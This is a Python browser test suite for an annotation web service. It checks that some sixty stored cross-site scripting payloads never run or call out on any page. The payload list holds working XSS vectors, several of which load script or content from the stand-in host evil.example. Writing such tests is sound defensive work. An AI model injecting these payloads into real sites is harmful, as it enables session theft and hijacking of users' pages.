"""Stored scripts in prompts, answers, names, guidelines, critiques: sixty ways, every page that
shows them, a real browser.

A payload that runs sets `window.hit`, opens a dialog or asks another host for something; none may.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from annotation_bench import Bench, Served, echo

from burnish.annotation.service import accounts, people, projects, work
from burnish.annotation.service.rendering import markdown
from burnish.annotation.service.submission import Submission

HIT = "window.hit=1"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script src=data:text/javascript,{HIT}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={HIT}>",
    f'<img src=x onerror="{HIT}">',
    f"<img/src=x/onerror={HIT}>",
    f"<img src='x' onerror='{HIT}'",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={HIT}>",
    f"<body onload={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    "<iframe src=//evil.example></iframe>",
    f"<object data='data:text/html,<script>parent.{HIT}</script>'></object>",
    f"<embed src=javascript:{HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>",
    f"<textarea autofocus onfocus={HIT}></textarea>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='java\tscript:{HIT}'>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>",
    f"<math><a xlink:href=javascript:{HIT}>x</a></math>",
    (
        "<math><mtext><table><mglyph><style><img src=x"
        f" onerror={HIT}></style></mglyph></table></mtext></math>"
    ),
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x)">x</div>',
    f"<div style='width:expression({HIT})'>x</div>",
    f"[x](javascript:{HIT})",
    f"[x](JaVaScRiPt:{HIT})",
    f"[x](  javascript:{HIT})",
    f"[x](java&#115;cript:{HIT})",
    f"[x](&#x6A;avascript:{HIT})",
    f"[x](data:text/html,<script>{HIT}</script>)",
    f"[x](vbscript:{HIT})",
    f"<javascript:{HIT}>",
    f"![x](javascript:{HIT})",
    "![x](//evil.example/pixel.png)",
    f'![x](x"onerror="{HIT})',
    f'[x](https://a.example/"onclick="{HIT})',
    f"[x][r]\n\n[r]: javascript:{HIT}",
    f"`<img src=x onerror={HIT}>`",
    f'```"><img src=x onerror={HIT}>\n</code></pre><script>{HIT}</script>\n```',
    f"$<img src=x onerror={HIT}>$",
    f"$$\\frac{{<script>{HIT}</script>}}{{x}}$$",
    f"\\(^{{<img src=x onerror={HIT}>}}\\)",
    f"| a |\n|---|\n| <img src=x onerror={HIT}> |",
    f'"><script>{HIT}</script>',
    f"'-({HIT})-'",
    f"</textarea><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}}",
    f"<!--><script>{HIT}</script-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"\u2028<script>{HIT}</script>",
]


def test_there_are_fifty_ways():
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_text_has_no_element_or_address_that_runs(payload: str):
    """A second net below the browser's policy: what is rendered holds allowed elements and
    addresses only."""
    from html.parser import HTMLParser

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attributes: list) -> None:
            assert tag in {
                "p",
                "br",
                "a",
                "code",
                "pre",
                "span",
                "sup",
                "sub",
                "table",
                "thead",
                "tbody",
                "tr",
                "th",
                "td",
                "em",
                "strong",
            }, tag
            for name, value in attributes:
                assert name in {"href", "rel", "target", "title", "class", "align"}, name
                if name == "href":
                    assert value.startswith(("http://", "https://", "mailto:")), value

    Reader().feed(markdown(payload))


def _rows() -> list[dict]:
    return [
        {"id": f"{kind}-{p}", "prompt": PAYLOADS[p], "kind": kind, "candidates": candidates}
        for p in range(len(PAYLOADS))
        for kind, candidates in (("pairwise", [PAYLOADS[p], f"answer {p}"]),)
    ]


def test_nothing_that_is_stored_runs(tmp_path: Path, chromium: Any):
    served = Served(str(tmp_path / "a.sqlite"), generate=echo)
    everything = "\n\n".join(PAYLOADS)
    bench = Bench(
        served.database,
        annotators=0,
        rows=_rows(),
        overlap=2,
        flags=PAYLOADS[:10],
        skip_reasons=PAYLOADS[10:20],
        dispute_below=1.0,
    )
    context = chromium.new_context(viewport={"width": 1200, "height": 900})
    page = context.new_page()
    page.set_default_timeout(15_000)
    alarms: list[str] = []
    page.on("dialog", lambda dialog: (alarms.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            None
            if request.url.startswith(served.url) or request.url == "about:blank"
            else alarms.append(request.url)
        ),
    )
    try:
        name = "<img src=x onerror=window.hit=1>"
        secret = people.invite(served.database, bench.owner, bench.project, uses=9)
        for n, person in enumerate((name, "<script>window.hit=1</script>")):
            _, cookie = people.sign_up(
                served.database, secret, person, "long enough password", address=""
            )
            caller = accounts.caller_of_session(served.database, cookie)
            assert caller is not None
            for _ in range(
                len(PAYLOADS) if n == 0 else 10
            ):  # ten end as disagreements, the browser does the rest
                held = work.take(served.database, caller, bench.project)
                assert held is not None
                strength = 1 if (held.presented[0] == 0) == (n == 0) else -1
                work.answer(
                    served.database,
                    caller,
                    held.lease,
                    Submission(strength=strength, critique=everything),
                )
        projects.change(served.database, bench.owner, bench.project, guidelines=everything)
        with served.database.write() as session:
            session.get_one(projects.Project, bench.project).name = PAYLOADS[4]

        def examine() -> None:
            page.wait_for_timeout(50)
            assert page.evaluate("window.hit") is None, page.url
            assert page.evaluate(
                "[...document.querySelectorAll('script')].every((s) =>"
                " s.src.startsWith(location.origin))"
            )
            assert (
                page.evaluate(
                    "document.querySelectorAll('iframe, object, embed, base, [onerror],"
                    " [onload]').length"
                )
                == 0
            )
            assert alarms == []

        context.add_cookies([{"name": "burnish_session", "value": cookie, "url": served.url}])
        page.goto(f"{served.url}/projects/{bench.project}/label")
        page.wait_for_selector(".bar")
        page.keyboard.press("g")
        page.wait_for_selector("dialog#guidelines[open]")
        examine()
        page.keyboard.press("Escape")
        for n in range(len(PAYLOADS)):
            if page.wait_for_selector(".bar, .narrow") and page.locator(".narrow").count():
                break
            if n % 20 == 0:
                page.keyboard.press("m")
                examine()
                page.keyboard.press("s")
                examine()
                page.keyboard.press("Escape")
            examine()
            page.evaluate("document.querySelector('#live').textContent = ''")
            page.keyboard.press("1")
            page.keyboard.press("Enter")
            while not page.evaluate("document.querySelector('#live').textContent"):
                page.wait_for_timeout(10)
            page.wait_for_selector(".bar, .narrow")
        with served.database.write() as session:
            owner = accounts.open_session(
                session, accounts.account_of(session, "olga"), address=PAYLOADS[4]
            )
        context.add_cookies([{"name": "burnish_session", "value": owner, "url": served.url}])
        for path in (
            "/projects",
            f"/join/{secret}",
            "/account",
            *(
                f"/projects/1{tab}"
                for tab in ("", "/items", "/members", "/review", "/settings", "/export")
            ),
        ):
            page.goto(served.url + path)
            examine()
        page.goto(f"{served.url}/projects/1/review")
        page.wait_for_selector(".bar")
        for _ in range(5):
            examine()
            page.keyboard.press("n")
        assert served.failures == []
    finally:
        context.close()
        served.stop()


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# a", "3"),
        ("### a", "3"),
        ("## a\n\n# b\n\n### c\n\n###### d\n\n## e\n\n# f", "334543"),
        ("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5", "34566"),
        ("> ## a\n\n- ### b\n\na\n===", "343"),
    ],
)
def test_headings_of_texts_stand_below_those_of_pages_and_skip_no_level(text: str, levels: str):
    assert "".join(re.findall(r"<h(\d)>", markdown(text))) == levels
